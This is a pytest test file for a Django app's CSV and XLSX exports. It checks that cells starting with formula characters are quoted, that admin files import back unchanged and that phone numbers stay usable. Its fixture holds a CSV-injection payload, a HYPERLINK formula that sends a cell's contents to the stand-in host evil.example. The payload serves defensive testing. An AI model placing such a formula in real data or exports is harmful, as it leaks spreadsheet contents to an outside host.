"""Every export is safe to open in a spreadsheet: no cell is read as a formula, phone
numbers stay usable, and the admin's files import back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from associations.models import Association

from .conftest import make_association

pytestmark = pytest.mark.django_db

# Where spreadsheets start a formula (OWASP "CSV injection"), and the full-width forms
# Japanese input methods type.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A2,"Open")'


@pytest.fixture
def hostile(places) -> dict[str, str]:
    """One association per dangerous first character, in every free-text field."""
    slugs = {}
    for n, start in enumerate(FORMULA_STARTS):
        value = start + PAYLOAD
        make_association(
            slug=f"hostile-{n}", name_en=value, name_ja=value, address=value, staff_note=value,
            prefecture=places["shizuoka"],
        )  # fmt: skip
        slugs[f"hostile-{n}"] = value
    return slugs


def is_safe(value: object) -> bool:
    return not (isinstance(value, str) and value.startswith(tuple(FORMULA_STARTS)))


def public_csv(client) -> list[dict[str, str]]:
    response = client.get(reverse("associations:export_csv"))
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def admin_export(client, file_format: str) -> bytes:
    url = reverse("admin:associations_association_export")
    form = client.get(url).context["form"]
    choice = next(v for v, label in form.fields["format"].choices if label == file_format)
    data = {
        "format": choice,
        **{name: "on" for name in form.fields if name.startswith("associationresource_")},
    }
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def admin_csv(client) -> list[dict[str, str]]:
    text = admin_export(client, "csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def admin_xlsx(client) -> list[dict[str, openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, "xlsx"))).active
    header, *rows = sheet.iter_rows()
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


def test_the_public_csv_quotes_every_would_be_formula(client, hostile):
    rows = public_csv(client)
    assert all(is_safe(cell) for row in rows for cell in row.values())
    by_name = {row["Name (English)"]: row for row in rows}
    for value in hostile.values():
        row = by_name["'" + value]
        assert row["Name (Japanese)"] == row["Address"] == "'" + value


def test_the_admin_csv_quotes_every_would_be_formula(admin_client, hostile):
    rows = {row["slug"]: row for row in admin_csv(admin_client)}
    assert all(is_safe(cell) for row in rows.values() for cell in row.values())
    for slug, value in hostile.items():
        assert rows[slug]["name_en"] == rows[slug]["staff_note"] == "'" + value


def test_the_admin_xlsx_holds_text_not_formulas(admin_client, hostile):
    rows = {row["slug"].value: row for row in admin_xlsx(admin_client)}
    assert all(cell.data_type != "f" for row in rows.values() for cell in row.values())
    assert all(is_safe(cell.value) for row in rows.values() for cell in row.values())
    for slug, value in hostile.items():
        # XML, which XLSX is, reads a carriage return back as a line feed.
        expected = "'" + value.replace("\r", "\n")
        assert rows[slug]["name_en"].value == rows[slug]["staff_note"].value == expected


def import_preview(client, content: bytes, file_format: str, name: str):
    url = reverse("admin:associations_association_import")
    form = client.get(url).context["form"]
    choice = next(v for v, label in form.fields["format"].choices if label == file_format)
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(url, {"format": choice, "import_file": upload})


def test_an_admin_csv_imports_back_unchanged(admin_client, hostile, places):
    # A carriage return comes back from a CSV file as a line feed, escaped or not.
    Association.objects.filter(name_en__startswith="\r").delete()
    sair = places["sair"]
    sair.name_en = "'@home' Association"  # its own apostrophe survives too
    sair.phone = "054-202-3411"
    sair.fax = "+44 20 7946 0018"
    sair.save()
    response = import_preview(admin_client, admin_export(admin_client, "csv"), "csv", "a.csv")
    result = response.context["result"]
    assert not result.has_validation_errors() and not result.has_errors()
    assert [row.import_type for row in result.rows] == ["skip"] * Association.objects.count()


def test_phone_numbers_stay_usable_in_the_public_csv(client, places):
    make_association(
        slug="iwata", name_en="Iwata", prefecture=places["shizuoka"],
        phone="0538-37-2111", fax="+44 20 7946 0018",
    )  # fmt: skip
    row = next(r for r in public_csv(client) if r["Name (English)"] == "Iwata")
    assert row["Phone"] == "0538-37-2111"
    # A caller abroad dials + (or their exit code) and then this.
    assert row["Phone (international, without +)"] == "81 538-37-2111"
    # A foreign number has only its international form: quoted like any other cell.
    assert row["Fax"] == "'+44 20 7946 0018"


def test_phone_numbers_stay_usable_in_the_admin_exports(admin_client, places):
    sair = places["sair"]
    sair.phone = "054-202-3411"
    sair.save()
    csv_row = next(r for r in admin_csv(admin_client) if r["slug"] == "sair")
    assert csv_row["phone"] == "054-202-3411"
    xlsx_row = next(r for r in admin_xlsx(admin_client) if r["slug"].value == "sair")
    assert (xlsx_row["phone"].value, xlsx_row["phone"].data_type) == ("054-202-3411", "s")
